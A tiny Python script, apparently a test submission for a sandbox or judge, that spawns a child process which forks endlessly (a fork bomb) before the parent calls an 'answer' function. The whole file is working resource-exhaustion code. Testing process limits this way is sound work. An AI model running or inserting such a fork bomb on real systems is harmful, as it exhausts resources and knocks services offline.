import os
import time

from kit import answer

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
time.sleep(0.5)
answer()
